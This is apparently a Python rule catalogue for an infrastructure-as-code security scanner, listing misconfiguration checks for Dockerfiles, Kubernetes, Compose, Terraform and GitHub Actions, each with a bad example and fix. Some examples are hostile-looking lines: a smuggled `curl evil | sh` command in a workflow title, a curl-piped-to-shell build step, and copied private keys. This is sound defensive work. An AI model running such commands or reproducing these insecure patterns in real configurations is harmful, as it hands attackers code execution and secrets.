"""The IaC rule catalogue and the helper that turns a rule plus a position into a Finding."""

from __future__ import annotations

from armur.core.findings import Confidence, Finding, Location, Severity
from armur.core.rules import Rule, RuleDoc

ANALYZER = "iac"

_C, _H, _M, _L, _I = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW, Severity.INFO
_HI, _MED, _LO = Confidence.HIGH, Confidence.MEDIUM, Confidence.LOW


def _rule(
    rid: str, lang: str, title: str, sev: Severity, conf: Confidence, cwe: tuple[int, ...], owasp: str,
    what: str, why: str, fix: str, example: str = "", refs: tuple[str, ...] = (),
) -> Rule:
    return Rule(
        id=rid, title=title, severity=sev, confidence=conf, cwe=cwe, owasp=owasp, languages=(lang,),
        analyzer=ANALYZER, doc=RuleDoc(what=what, why=why, example=example, fix=fix, references=refs),
        tags=("iac", lang),
    )


_DF = "dockerfile"
_K8 = "kubernetes"
_DC = "compose"
_TF = "terraform"
_GH = "github-actions"
_DOCKER_REF = ("https://docs.docker.com/build/building/best-practices/",)
_K8S_REF = ("https://kubernetes.io/docs/concepts/security/pod-security-standards/",)
_GHA_REF = ("https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions",)

RULES: tuple[Rule, ...] = (
    # --- Dockerfile -------------------------------------------------------------------------------
    _rule("iac.dockerfile.root-user", _DF, "Container runs as root", _M, _HI, (250,), "A05",
          "A Dockerfile whose final stage has no USER instruction, or whose last USER is root or 0.",
          "A process running as root inside a container turns any code-execution bug into root on the "
          "container and makes kernel or runtime escapes far more damaging.",
          "Create an unprivileged user and switch to it with `USER app` (or a numeric uid) before CMD.",
          "FROM python:3.12-slim\nCOPY . /app\nCMD [\"python\", \"/app/main.py\"]", _DOCKER_REF),
    _rule("iac.dockerfile.unpinned-base-image", _DF, "Base image not pinned", _L, _HI, (1357,), "A08",
          "FROM lines whose image has no tag, the `latest` tag, or no digest while using a mutable tag.",
          "Without a pinned version the build silently picks up whatever the registry serves today, "
          "including a compromised or breaking image.",
          "Pin a version tag, and preferably a digest: `FROM python:3.12-slim@sha256:...`.",
          "FROM ubuntu:latest", _DOCKER_REF),
    _rule("iac.dockerfile.add-from-url", _DF, "ADD fetches a remote URL", _M, _HI, (494,), "A08",
          "ADD instructions whose source is an http(s) URL.",
          "ADD downloads without any integrity check and caches unpredictably; a changed or hijacked "
          "remote file goes straight into the image.",
          "Download with curl/wget in a RUN step and verify a checksum, or use `ADD --checksum=sha256:...`.",
          "ADD https://example.com/tool.tar.gz /opt/", _DOCKER_REF),
    _rule("iac.dockerfile.curl-pipe-shell", _DF, "Remote script piped to a shell", _H, _HI, (494,), "A08",
          "RUN instructions that pipe the output of curl or wget into sh, bash or another interpreter.",
          "The script runs unverified with build privileges; whoever controls the URL or the network "
          "path controls the image.",
          "Download to a file, verify its checksum or signature, then run it.",
          "RUN curl -sSL https://get.example.com | sh", _DOCKER_REF),
    _rule("iac.dockerfile.secret-in-env", _DF, "Secret baked into ENV or ARG", _H, _MED, (798, 538), "A07",
          "ENV or ARG instructions that give a literal value to a variable named like a password, secret, "
          "token or key.",
          "ENV values and ARG defaults are stored in the image metadata and history; anyone who can pull "
          "the image can read them.",
          "Pass secrets at run time (orchestrator secrets) or at build time with `RUN --mount=type=secret`.",
          "ENV DB_PASSWORD=hunter2", _DOCKER_REF),
    _rule("iac.dockerfile.secret-file-copied", _DF, "Credential file copied into the image", _H, _MED, (538,), "A05",
          "COPY or ADD of private keys, .env files, cloud credential files, .npmrc/.pypirc or similar.",
          "Files copied into a layer stay in the image even if deleted later; they leak with every push.",
          "Keep credential files out of the build context (.dockerignore) and use build secrets instead.",
          "COPY id_rsa /root/.ssh/id_rsa", _DOCKER_REF),
    _rule("iac.dockerfile.apt-hygiene", _DF, "apt-get install without hygiene flags", _L, _HI, (1104,), "A05",
          "apt-get install without --no-install-recommends, or without removing /var/lib/apt/lists in the "
          "same RUN.",
          "Recommended packages enlarge the attack surface; stale package lists bloat the image and hide "
          "what was installed.",
          "`RUN apt-get update && apt-get install -y --no-install-recommends pkg && rm -rf /var/lib/apt/lists/*`.",
          "RUN apt-get update && apt-get install -y curl", _DOCKER_REF),
    _rule("iac.dockerfile.pip-unpinned", _DF, "pip install without version pins", _L, _MED, (1104,), "A06",
          "pip install of named packages without `==` pins (requirement files and constraints are accepted).",
          "Unpinned installs make builds irreproducible and pull in whatever version (or typosquat) is "
          "published at build time.",
          "Pin versions (`pip install flask==3.0.3`) or install from a locked requirements file.",
          "RUN pip install flask requests", _DOCKER_REF),
    _rule("iac.dockerfile.missing-healthcheck", _DF, "No HEALTHCHECK", _I, _HI, (754,), "A09",
          "Dockerfiles whose final stage declares no HEALTHCHECK.",
          "Without a health check the runtime cannot tell a hung service from a healthy one.",
          "Add `HEALTHCHECK CMD curl -f http://localhost/health || exit 1` (or `HEALTHCHECK NONE` on purpose).",
          "", _DOCKER_REF),
    _rule("iac.dockerfile.sudo", _DF, "sudo used in the build", _M, _HI, (250,), "A05",
          "RUN instructions that call sudo.",
          "sudo in an image means a sudo-capable user exists at run time and hides which steps need root.",
          "Switch with `USER root` for the steps that need it and back to an unprivileged user afterwards.",
          "RUN sudo apt-get install -y curl", _DOCKER_REF),
    _rule("iac.dockerfile.exposed-ssh", _DF, "SSH port exposed", _L, _HI, (284,), "A05",
          "EXPOSE 22.",
          "An SSH daemon in a container is extra attack surface and usually a sign of a pet container.",
          "Remove sshd from the image; use `docker exec`/`kubectl exec` for debugging.",
          "EXPOSE 22", _DOCKER_REF),
    # --- Kubernetes -------------------------------------------------------------------------------
    _rule("iac.k8s.privileged", _K8, "Privileged container", _H, _HI, (250,), "A05",
          "Containers with securityContext.privileged: true.",
          "A privileged container has every capability and access to host devices: it is root on the node.",
          "Remove `privileged: true`; grant only the specific capability the workload needs.",
          "securityContext:\n  privileged: true", _K8S_REF),
    _rule("iac.k8s.privilege-escalation", _K8, "Privilege escalation allowed", _M, _HI, (269,), "A05",
          "Containers whose securityContext.allowPrivilegeEscalation is true or not set (it defaults to true).",
          "With escalation allowed, setuid binaries and file capabilities let a process gain more privileges "
          "than its parent.",
          "Set `allowPrivilegeEscalation: false` in every container's securityContext.", "", _K8S_REF),
    _rule("iac.k8s.dangerous-capabilities", _K8, "Dangerous Linux capabilities added", _H, _HI, (250,), "A05",
          "capabilities.add containing ALL, SYS_ADMIN, NET_ADMIN, SYS_PTRACE, SYS_MODULE, NET_RAW, DAC_READ_SEARCH, "
          "BPF or similar, or any capability outside the Pod Security Standards baseline set (AUDIT_WRITE, CHOWN, "
          "DAC_OVERRIDE, FOWNER, FSETID, KILL, MKNOD, NET_BIND_SERVICE, SETFCAP, SETGID, SETPCAP, SETUID, "
          "SYS_CHROOT), e.g. IPC_LOCK or SYS_NICE.",
          "These capabilities allow container escape, host network tampering or reading other processes.",
          "Drop ALL capabilities and add back only narrow ones such as NET_BIND_SERVICE.", "", _K8S_REF),
    _rule("iac.k8s.host-path", _K8, "hostPath volume", _M, _HI, (668,), "A01",
          "Pod volumes of type hostPath.",
          "A hostPath mount exposes the node's filesystem; writable mounts of / or /var/run allow takeover.",
          "Use persistent volumes, configMaps, secrets or emptyDir instead of hostPath.", "", _K8S_REF),
    _rule("iac.k8s.host-namespace", _K8, "Host namespace shared", _H, _HI, (668,), "A05",
          "Pods with hostNetwork, hostPID or hostIPC set to true.",
          "Sharing the host's network, process or IPC namespace lets the pod sniff traffic, signal or "
          "inspect host processes and bypass network policy.",
          "Remove hostNetwork/hostPID/hostIPC or set them to false.", "", _K8S_REF),
    _rule("iac.k8s.run-as-root", _K8, "Container may run as root", _M, _MED, (250,), "A05",
          "Containers with runAsUser: 0, or without runAsNonRoot: true at container or pod level.",
          "Root in the container is one kernel bug away from root on the node.",
          "Set `runAsNonRoot: true` and a non-zero `runAsUser` in the pod or container securityContext.",
          "", _K8S_REF),
    _rule("iac.k8s.no-resource-limits", _K8, "No resource limits", _L, _HI, (770,), "A05",
          "Containers without resources.limits for cpu and memory.",
          "A container without limits can starve the node and its neighbours (denial of service).",
          "Set `resources.limits.cpu` and `resources.limits.memory`.", "", _K8S_REF),
    _rule("iac.k8s.writable-root-fs", _K8, "Writable root filesystem", _L, _HI, (732,), "A05",
          "Containers without securityContext.readOnlyRootFilesystem: true.",
          "A writable root filesystem lets an attacker drop tools and persist changes inside the container.",
          "Set `readOnlyRootFilesystem: true` and mount emptyDir volumes where writes are needed.", "",
          _K8S_REF),
    _rule("iac.k8s.sa-token-automount", _K8, "Service-account token mounted automatically", _L, _MED, (200,), "A01",
          "Pod specs that do not set automountServiceAccountToken: false.",
          "Every compromised pod gets an API token; with generous RBAC that is a path to the whole cluster.",
          "Set `automountServiceAccountToken: false` unless the pod talks to the Kubernetes API.", "",
          _K8S_REF),
    _rule("iac.k8s.secret-in-env", _K8, "Secret as a literal environment value", _H, _MED, (798,), "A07",
          "Container env entries named like passwords, tokens or keys whose value is a literal.",
          "Manifests are stored in git and readable by anyone with get access to the workload.",
          "Use `valueFrom.secretKeyRef` to read the value from a Secret.", "", _K8S_REF),
    _rule("iac.k8s.image-latest", _K8, "Image without a tag or with :latest", _M, _HI, (1357,), "A08",
          "Container images with no tag or the latest tag.",
          "The running version changes without a manifest change; rollbacks and audits become impossible.",
          "Pin an explicit version tag and preferably a digest (`image@sha256:...`).", "", _K8S_REF),
    _rule("iac.k8s.image-no-digest", _K8, "Image not pinned by digest", _I, _HI, (1357,), "A08",
          "Container images referenced by a tag rather than a sha256 digest.",
          "Tags are mutable; a digest guarantees the exact image that was reviewed is the one that runs.",
          "Reference images as `registry/name:tag@sha256:<digest>`.", "", _K8S_REF),
    _rule("iac.k8s.rbac-wildcard", _K8, "Wildcard RBAC rule", _H, _HI, (269,), "A01",
          "Role or ClusterRole rules whose verbs, resources or apiGroups contain `*`.",
          "Wildcards grant every present and future permission, including secrets and escalation verbs.",
          "List the exact apiGroups, resources and verbs the subject needs.", "",
          ("https://kubernetes.io/docs/concepts/security/rbac-good-practices/",)),
    # --- docker compose ---------------------------------------------------------------------------
    _rule("iac.compose.privileged", _DC, "Privileged compose service", _H, _HI, (250,), "A05",
          "Compose services with `privileged: true`.",
          "A privileged container is root on the host.",
          "Remove `privileged: true`; use `cap_add` with the single capability needed.", ""),
    _rule("iac.compose.host-network", _DC, "Compose service on the host network", _M, _HI, (668,), "A05",
          "Compose services with `network_mode: host` (also pid/ipc: host).",
          "The service shares the host's network or process namespace and bypasses container isolation.",
          "Use the default bridge network and publish only the ports needed.", ""),
    _rule("iac.compose.docker-socket", _DC, "Docker socket mounted", _H, _HI, (250,), "A05",
          "Volumes that mount /var/run/docker.sock (or /run/docker.sock) into a service.",
          "Access to the Docker socket is root on the host: the service can start privileged containers.",
          "Do not mount the socket; use a socket proxy with a narrow allow-list if it is unavoidable.", ""),
    _rule("iac.compose.secret-in-env", _DC, "Secret as a literal compose environment value", _H, _MED, (798,),
          "A07",
          "environment entries named like passwords, tokens or keys with a literal (non-${VAR}) value.",
          "Compose files are committed and shared; literal secrets in them leak.",
          "Use `${VAR}` interpolation from an untracked .env file or compose `secrets:`.", ""),
    # --- Terraform --------------------------------------------------------------------------------
    _rule("iac.terraform.aws-s3-public", _TF, "Public S3 bucket", _H, _HI, (732,), "A01",
          "aws_s3_bucket / aws_s3_bucket_acl with a public canned ACL, and aws_s3_bucket_public_access_block "
          "with any block setting false.",
          "Public buckets are the most common source of cloud data leaks.",
          "Use `acl = \"private\"` (or no ACL) and set all four public access block settings to true.",
          "resource \"aws_s3_bucket\" \"b\" {\n  acl = \"public-read\"\n}"),
    _rule("iac.terraform.aws-s3-unencrypted", _TF, "S3 bucket without server-side encryption", _M, _MED, (311,),
          "A02",
          "aws_s3_bucket resources with no server_side_encryption_configuration block and no "
          "aws_s3_bucket_server_side_encryption_configuration resource for them in the same file.",
          "Without an explicit encryption configuration the data-at-rest protection and key ownership are "
          "not under your control.",
          "Add an aws_s3_bucket_server_side_encryption_configuration with aws:kms and a customer key.", ""),
    _rule("iac.terraform.aws-s3-no-versioning", _TF, "S3 bucket without versioning", _L, _MED, (693,), "A08",
          "aws_s3_bucket resources with neither an enabled versioning block nor an aws_s3_bucket_versioning "
          "resource in the same file.",
          "Without versioning, overwritten or deleted objects (ransomware, mistakes) cannot be recovered.",
          "Enable versioning with aws_s3_bucket_versioning (status = \"Enabled\").", ""),
    _rule("iac.terraform.aws-s3-no-logging", _TF, "S3 bucket without access logging", _L, _MED, (778,), "A09",
          "aws_s3_bucket resources with neither a logging block nor an aws_s3_bucket_logging resource in the "
          "same file.",
          "Without access logs a data leak cannot be investigated.",
          "Add aws_s3_bucket_logging pointing at a log bucket.", ""),
    _rule("iac.terraform.gcp-storage-public", _TF, "Public GCS bucket", _H, _HI, (732,), "A01",
          "google_storage_bucket_iam_member/binding, bucket ACLs and access controls granting allUsers or "
          "allAuthenticatedUsers.",
          "Anyone on the internet can read (or write) the bucket.",
          "Grant roles to specific principals; set `public_access_prevention = \"enforced\"`.", ""),
    _rule("iac.terraform.azure-storage-public", _TF, "Public Azure storage", _H, _HI, (732,), "A01",
          "azurerm_storage_account with blob public access allowed, and azurerm_storage_container with "
          "container_access_type blob or container.",
          "Anonymous users can list and read blobs.",
          "Set `allow_nested_items_to_be_public = false` and `container_access_type = \"private\"`.", ""),
    _rule("iac.terraform.azure-storage-http", _TF, "Azure storage allows plain HTTP or old TLS", _M, _HI, (319,),
          "A02",
          "azurerm_storage_account with https_traffic_only_enabled / enable_https_traffic_only = false or "
          "min_tls_version below TLS1_2.",
          "Data and shared keys cross the network unencrypted or with weak protocols.",
          "Set `https_traffic_only_enabled = true` and `min_tls_version = \"TLS1_2\"`.", ""),
    _rule("iac.terraform.aws-sg-open", _TF, "Security group open to the internet on a sensitive port", _H, _HI,
          (284,), "A05",
          "aws_security_group ingress blocks, aws_security_group_rule (type ingress) and "
          "aws_vpc_security_group_ingress_rule allowing 0.0.0.0/0 or ::/0 on admin or database ports "
          "(22, 3389, 3306, 5432, 1433, 1521, 27017, 6379, 9200, 5601, 11211, 2375, 23, 21...) or all ports.",
          "Admin and database ports reachable from the whole internet are brute-forced and exploited within "
          "minutes.",
          "Restrict the source CIDR to a VPN/bastion range or use SSM Session Manager.", ""),
    _rule("iac.terraform.gcp-firewall-open", _TF, "GCP firewall open to the internet on a sensitive port", _H, _HI,
          (284,), "A05",
          "google_compute_firewall (INGRESS) with source_ranges 0.0.0.0/0 or ::/0 allowing admin/database ports "
          "or all ports.",
          "Admin and database ports reachable from the whole internet are brute-forced and exploited.",
          "Limit source_ranges to trusted ranges or use IAP TCP forwarding (35.235.240.0/20).", ""),
    _rule("iac.terraform.azure-nsg-open", _TF, "Azure NSG rule open to the internet on a sensitive port", _H, _HI,
          (284,), "A05",
          "azurerm_network_security_rule or inline security_rule blocks with direction Inbound, access Allow, "
          "source `*`, Internet, Any or 0.0.0.0/0, on admin/database ports or all ports.",
          "Admin and database ports reachable from the whole internet are brute-forced and exploited.",
          "Restrict source_address_prefix to trusted ranges or use Azure Bastion.", ""),
    _rule("iac.terraform.aws-db-unencrypted", _TF, "Unencrypted database storage", _H, _HI, (311,), "A02",
          "aws_db_instance / aws_rds_cluster / aws_neptune_cluster / aws_docdb_cluster without storage_encrypted "
          "= true, and aws_redshift_cluster without encrypted = true.",
          "Snapshots and disks of the database are readable by anyone who obtains them.",
          "Set `storage_encrypted = true` (and a kms_key_id).", ""),
    _rule("iac.terraform.aws-ebs-unencrypted", _TF, "Unencrypted EBS volume", _M, _HI, (311,), "A02",
          "aws_ebs_volume without encrypted = true, and aws_instance root/ebs block devices with encrypted = false.",
          "Volume snapshots can be shared or copied and read without any key.",
          "Set `encrypted = true` or enable EBS encryption by default in the account.", ""),
    _rule("iac.terraform.gcp-disk-unencrypted", _TF, "GCP disk without customer-managed key", _L, _MED, (311,), "A02",
          "google_compute_disk without disk_encryption_key.",
          "Without a customer-managed key you cannot revoke access to the data or prove key custody.",
          "Add a `disk_encryption_key { kms_key_self_link = ... }` block.", ""),
    _rule("iac.terraform.aws-db-public", _TF, "Publicly accessible database", _H, _HI, (284,), "A05",
          "aws_db_instance / aws_rds_cluster_instance with publicly_accessible = true.",
          "The database gets a public endpoint; only the password stands between it and the internet.",
          "Set `publicly_accessible = false` and reach the database from inside the VPC.", ""),
    _rule("iac.terraform.gcp-sql-public", _TF, "Cloud SQL open to the internet", _H, _HI, (284,), "A05",
          "google_sql_database_instance authorized_networks with 0.0.0.0/0.",
          "The database accepts connections from any address on the internet.",
          "Remove the 0.0.0.0/0 network; use private IP or the Cloud SQL Auth Proxy.", ""),
    _rule("iac.terraform.azure-sql-public", _TF, "Azure SQL open to the internet", _H, _HI, (284,), "A05",
          "azurerm_sql_server / azurerm_mssql_server with public_network_access_enabled = true, and SQL "
          "firewall rules from 0.0.0.0 to 255.255.255.255.",
          "The database server accepts connections from any address on the internet.",
          "Set `public_network_access_enabled = false` and use private endpoints.", ""),
    _rule("iac.terraform.aws-iam-wildcard", _TF, "IAM policy with wildcard actions", _H, _HI, (732, 269), "A01",
          "IAM policy statements (jsonencode, heredoc JSON or aws_iam_policy_document) that Allow action `*` "
          "or `service:*`.",
          "Wildcard actions grant far more than needed, including privilege escalation paths.",
          "List the exact actions; scope resources to specific ARNs.", ""),
    _rule("iac.terraform.gcp-iam-primitive-role", _TF, "GCP primitive owner/editor role granted", _H, _HI, (269,),
          "A01",
          "google_project_iam_* / google_organization_iam_* / google_folder_iam_* granting roles/owner or "
          "roles/editor.",
          "Primitive roles grant broad access to almost every service in the project.",
          "Grant predefined or custom roles with only the needed permissions.", ""),
    _rule("iac.terraform.azure-role-wildcard", _TF, "Azure custom role with wildcard actions", _H, _HI, (269,), "A01",
          "azurerm_role_definition permissions with actions [\"*\"].",
          "A custom role with `*` actions is equivalent to Owner on its scope.",
          "List the exact actions the role needs.", ""),
    _rule("iac.terraform.hardcoded-secret", _TF, "Credential hard-coded in Terraform", _H, _MED, (798,), "A07",
          "Literal values for secret-named arguments (access_key, secret_key, password, client_secret, token...) "
          "in provider blocks and resources, secret-named variables with a literal default, and secret-named "
          "keys of a resource's environment { variables = {...} } (Lambda functions).",
          "Terraform code is committed, shared and copied into state files; a literal key in it is a leaked key. "
          "Lambda environment variables are readable by anyone who can read the function's configuration.",
          "Take credentials from the environment or a credentials file (provider), a secrets manager data "
          "source, or a sensitive variable without a default.",
          "provider \"aws\" {\n  access_key = \"AKIA...\"\n  secret_key = \"wJal...\"\n}"),
    _rule("iac.terraform.k8s-cluster-public-endpoint", _TF, "Kubernetes API endpoint open to the internet", _H, _HI,
          (284,), "A05",
          "aws_eks_cluster with endpoint_public_access unset/true and no narrowed public_access_cidrs; "
          "google_container_cluster with 0.0.0.0/0 in master_authorized_networks_config or with neither authorized "
          "networks nor a private endpoint; azurerm_kubernetes_cluster that is not private and has no authorized "
          "IP ranges.",
          "The control plane is then reachable by anyone: credential stuffing, leaked kubeconfigs and API server "
          "vulnerabilities become directly exploitable.",
          "Use a private endpoint, or restrict the public endpoint to known CIDRs (public_access_cidrs, "
          "master_authorized_networks_config, api_server_access_profile.authorized_ip_ranges).",
          "resource \"aws_eks_cluster\" \"c\" {\n  vpc_config {\n    subnet_ids = [...]\n  }\n}"),
    _rule("iac.terraform.k8s-cluster-no-logging", _TF, "Kubernetes cluster without control-plane logging", _M, _HI,
          (778,), "A09",
          "aws_eks_cluster without enabled_cluster_log_types including api and audit; google_container_cluster "
          "with logging_service or monitoring_service \"none\"; azurerm_kubernetes_cluster without an enabled "
          "oms_agent.",
          "Without audit and API logs nobody can tell who did what in the cluster after an incident.",
          "Enable the api and audit log types (EKS), keep Cloud Logging/Monitoring (GKE), enable the oms_agent "
          "with a Log Analytics workspace (AKS).", ""),
    _rule("iac.terraform.k8s-cluster-weak-auth", _TF, "Kubernetes cluster with legacy authorization", _H, _HI,
          (285, 287), "A07",
          "google_container_cluster with enable_legacy_abac = true, basic-auth passwords or issued client "
          "certificates; azurerm_kubernetes_cluster with RBAC disabled.",
          "Legacy ABAC and disabled RBAC give broad rights that RBAC policies cannot narrow; static basic-auth "
          "passwords and client certificates cannot be revoked.",
          "Remove enable_legacy_abac and master_auth credentials; keep RBAC enabled.", ""),
    _rule("iac.terraform.k8s-cluster-no-network-policy", _TF, "Kubernetes cluster without network policy enforcement",
          _M, _MED, (284,), "A05",
          "google_container_cluster without network_policy { enabled = true } or Dataplane V2; "
          "azurerm_kubernetes_cluster without network_profile.network_policy.",
          "Without an enforcing network plugin NetworkPolicy objects are ignored and every pod can reach every "
          "other pod, so one compromised pod can move laterally.",
          "Enable a network policy provider (Calico, Azure, Dataplane V2) and write default-deny policies.", ""),
    _rule("iac.terraform.k8s-cluster-secrets-unencrypted", _TF, "Kubernetes secrets not encrypted with a KMS key",
          _M, _MED, (311,), "A02",
          "aws_eks_cluster without an encryption_config for secrets; google_container_cluster without "
          "database_encryption state ENCRYPTED.",
          "Secrets in etcd are then protected only by the provider's default disk encryption, not by a key you "
          "control, rotate and audit.",
          "Add encryption_config { resources = [\"secrets\"] provider { key_arn = ... } } (EKS) or "
          "database_encryption { state = \"ENCRYPTED\" key_name = ... } (GKE).", ""),
    _rule("iac.terraform.aws-ecr-mutable-tags", _TF, "ECR repository with mutable image tags", _M, _HI, (345,), "A08",
          "aws_ecr_repository with image_tag_mutability unset or MUTABLE.",
          "Anyone who can push can silently replace the image behind a tag that deployments trust.",
          "Set `image_tag_mutability = \"IMMUTABLE\"` and deploy by digest.",
          "resource \"aws_ecr_repository\" \"r\" {\n  name = \"app\"\n}"),
    _rule("iac.terraform.aws-ecr-no-scan", _TF, "ECR repository without scan on push", _L, _HI, (1104,), "A06",
          "aws_ecr_repository without image_scanning_configuration { scan_on_push = true }, when the module has no "
          "aws_ecr_registry_scanning_configuration.",
          "Images with known-vulnerable packages are pushed and deployed without anyone being told.",
          "Add `image_scanning_configuration { scan_on_push = true }` or enable registry-wide scanning.", ""),
    _rule("iac.terraform.aws-kms-no-rotation", _TF, "KMS key without automatic rotation", _M, _HI, (320,), "A02",
          "Symmetric aws_kms_key resources without enable_key_rotation = true.",
          "A key that never rotates protects ever more data, and a leaked key stays useful indefinitely.",
          "Set `enable_key_rotation = true`.", "resource \"aws_kms_key\" \"k\" {\n  description = \"logs\"\n}"),
    _rule("iac.terraform.plaintext-listener", _TF, "Load balancer listener accepts plain HTTP", _M, _HI, (319,), "A02",
          "aws_elb listeners with lb_protocol http, aws_lb_listener / aws_alb_listener with protocol HTTP whose "
          "default action does not redirect to HTTPS, and azurerm_application_gateway http_listener with "
          "protocol Http that is not routed to a redirect.",
          "Traffic between clients and the load balancer, including cookies and credentials, crosses the "
          "network unencrypted and can be read or altered.",
          "Listen with HTTPS/TLS and a certificate; keep port 80 only to redirect to HTTPS.", ""),
    _rule("iac.terraform.azure-keyvault-no-purge-protection", _TF, "Key Vault without purge protection", _M, _HI,
          (693,), "A05",
          "azurerm_key_vault without purge_protection_enabled = true.",
          "A compromised or careless admin can delete and purge keys and secrets at once, destroying data "
          "encrypted with them.",
          "Set `purge_protection_enabled = true` (with soft delete retention).", ""),
    _rule("iac.terraform.azure-keyvault-open-network", _TF, "Key Vault reachable from any network", _M, _MED, (284,),
          "A05",
          "azurerm_key_vault without network_acls (or with default_action Allow) and with public network access "
          "not disabled.",
          "The vault's endpoint accepts requests from the whole internet; only the credentials protect it.",
          "Add `network_acls { default_action = \"Deny\" bypass = \"AzureServices\" ... }` or use a private "
          "endpoint.", ""),
    _rule("iac.terraform.azure-app-service-http", _TF, "App Service allows plain HTTP or old TLS", _M, _HI, (319,),
          "A02",
          "azurerm_app_service / web apps / function apps with https_only unset or false, or a site_config "
          "minimum TLS version of 1.0 or 1.1.",
          "Session cookies and credentials cross the network unencrypted or with broken protocol versions.",
          "Set `https_only = true` and `min_tls_version = \"1.2\"`.", ""),
    _rule("iac.terraform.azure-vm-password-auth", _TF, "Linux VM allows SSH password authentication", _M, _HI,
          (309,), "A07",
          "azurerm_linux_virtual_machine (scale sets) and azurerm_virtual_machine os_profile_linux_config with "
          "disable_password_authentication = false.",
          "Password logins can be brute-forced from anywhere the SSH port is reachable.",
          "Use SSH keys (`admin_ssh_key`) and keep disable_password_authentication = true.", ""),
    _rule("iac.terraform.azure-disk-unencrypted", _TF, "Azure managed disk encryption disabled", _M, _HI, (311,), "A02",
          "azurerm_managed_disk with encryption_settings { enabled = false }.",
          "The disk's contents and snapshots are not protected by Azure Disk Encryption keys you control.",
          "Enable encryption settings or a disk encryption set with a customer-managed key.", ""),
    _rule("iac.terraform.azure-activity-log-incomplete", _TF, "Activity log profile misses events or retention",
          _L, _HI, (778,), "A09",
          "azurerm_monitor_log_profile whose categories lack Action, Delete or Write, or whose retention policy "
          "keeps logs for less than 365 days.",
          "Missing categories and short retention leave gaps exactly where an investigation needs the record.",
          "Capture Action, Delete and Write and retain for at least 365 days (or 0: forever).", ""),
    _rule("iac.terraform.azure-defender-disabled", _TF, "Microsoft Defender for Cloud off or silent", _M, _HI, (778,),
          "A09",
          "azurerm_security_center_subscription_pricing with tier Free, and azurerm_security_center_contact with "
          "alert_notifications or alerts_to_admins false.",
          "Threat detection is off for the resource type, or its alerts reach nobody.",
          "Use `tier = \"Standard\"` and send alert notifications to the security contact and admins.", ""),
    _rule("iac.terraform.alicloud-oss-public", _TF, "Public Alibaba Cloud OSS bucket", _H, _HI, (732,), "A01",
          "alicloud_oss_bucket / alicloud_oss_bucket_acl with acl public-read or public-read-write.",
          "Anyone on the internet can read (or overwrite) the bucket's objects.",
          "Use `acl = \"private\"` and grant access through RAM policies.", ""),
    _rule("iac.terraform.alicloud-rds-public", _TF, "Alibaba Cloud RDS open to every address", _H, _HI, (284,), "A05",
          "alicloud_db_instance whose security_ips whitelist contains 0.0.0.0 or 0.0.0.0/0.",
          "The database accepts connections from any address; only the password protects it.",
          "List only the application's addresses or VPC ranges in security_ips.", ""),
    _rule("iac.terraform.alicloud-trail-incomplete", _TF, "ActionTrail does not record all events", _L, _HI, (778,),
          "A09",
          "alicloud_actiontrail_trail with event_rw other than All (unset means Write) or a trail_region other "
          "than All.",
          "Read events (data access) or other regions go unrecorded, leaving gaps in the audit trail.",
          "Set `event_rw = \"All\"` and `trail_region = \"All\"`.", ""),
    _rule("iac.terraform.oci-bucket-public", _TF, "Public Oracle Cloud object storage bucket", _H, _HI, (732,), "A01",
          "oci_objectstorage_bucket with access_type ObjectRead or ObjectReadWithoutList.",
          "Anyone on the internet can read the bucket's objects without authenticating.",
          "Use `access_type = \"NoPublicAccess\"` and pre-authenticated requests for sharing.", ""),
    # --- GitHub Actions ---------------------------------------------------------------------------
    _rule("iac.gha.script-injection", _GH, "Untrusted input expanded in a run script", _H, _HI, (78, 94), "A03",
          "`${{ github.event.* }}` expressions with attacker-controlled values (issue/PR/comment titles and "
          "bodies, branch names, commit messages, ...) and `github.head_ref` used inside `run:`, and inside "
          "actions/github-script `script:`.",
          "The expression is substituted into the script before the shell runs it, so a crafted title like "
          "`\"; curl evil | sh #` executes with the workflow's token and secrets.",
          "Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) "
          "and use `\"$TITLE\"` in the script.",
          "run: echo \"${{ github.event.issue.title }}\"", _GHA_REF),
    _rule("iac.gha.untrusted-checkout", _GH, "Privileged workflow checks out pull request code", _C, _HI, (829,),
          "A08",
          "pull_request_target or workflow_run workflows that check out the pull request's head "
          "(ref: github.event.pull_request.head.sha/ref, refs/pull/...).",
          "The untrusted code runs (build scripts, tests, install hooks) with a write token and secrets: the "
          "'pwn request' pattern.",
          "Use the `pull_request` trigger for untrusted code, or never execute the checked-out code.",
          "", ("https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",)),
    _rule("iac.gha.unpinned-action", _GH, "Third-party action not pinned to a commit SHA", _M, _HI, (829,), "A08",
          "`uses:` references to third-party actions or reusable workflows by tag or branch instead of a full "
          "40-character commit SHA.",
          "Tags and branches are mutable; a compromised action repository can push code that runs with your "
          "secrets (as in tj-actions/changed-files).",
          "Pin to a full commit SHA and keep it current with Dependabot: `uses: owner/action@<sha> # v1.2.3`.",
          "", _GHA_REF),
    _rule("iac.gha.unpinned-first-party-action", _GH, "GitHub-owned action not pinned to a commit SHA", _L, _HI,
          (829,), "A08",
          "`uses:` references to actions/* or github/* actions by tag or branch.",
          "First-party actions are lower risk but tags are still mutable.",
          "Pin to a full commit SHA.", "", _GHA_REF),
    _rule("iac.gha.excessive-permissions", _GH, "Workflow token with write-all permissions", _M, _HI, (250,), "A01",
          "`permissions: write-all` at workflow or job level.",
          "Every step, including third-party actions, gets a token that can push code and publish releases.",
          "Declare the least permissions needed, e.g. `permissions: { contents: read }`.", "", _GHA_REF),
    _rule("iac.gha.missing-permissions", _GH, "Workflow without a permissions block", _I, _MED, (250,), "A01",
          "Workflows where neither the workflow nor every job declares `permissions:`.",
          "The token then gets the repository's default permissions, which may be read-write.",
          "Add `permissions: { contents: read }` at the top and widen per job where needed.", "", _GHA_REF),
    _rule("iac.gha.secret-echoed", _GH, "Secret printed in a run step", _M, _MED, (532,), "A09",
          "run scripts that echo/print/write a `${{ secrets.* }}` value.",
          "Masking is best-effort: encodings, partial output or files in artifacts leak the secret.",
          "Do not print secrets; pass them through env and write them only where needed.", "", _GHA_REF),
    _rule("iac.gha.secret-to-unpinned-action", _GH, "Secret passed to an unpinned third-party action", _M, _MED,
          (829,), "A08",
          "`with:` or `env:` of a step that uses an unpinned third-party action and passes a `secrets.*` value.",
          "Whoever can move the action's tag receives the secret.",
          "Pin the action to a commit SHA, or avoid passing the secret.", "", _GHA_REF),
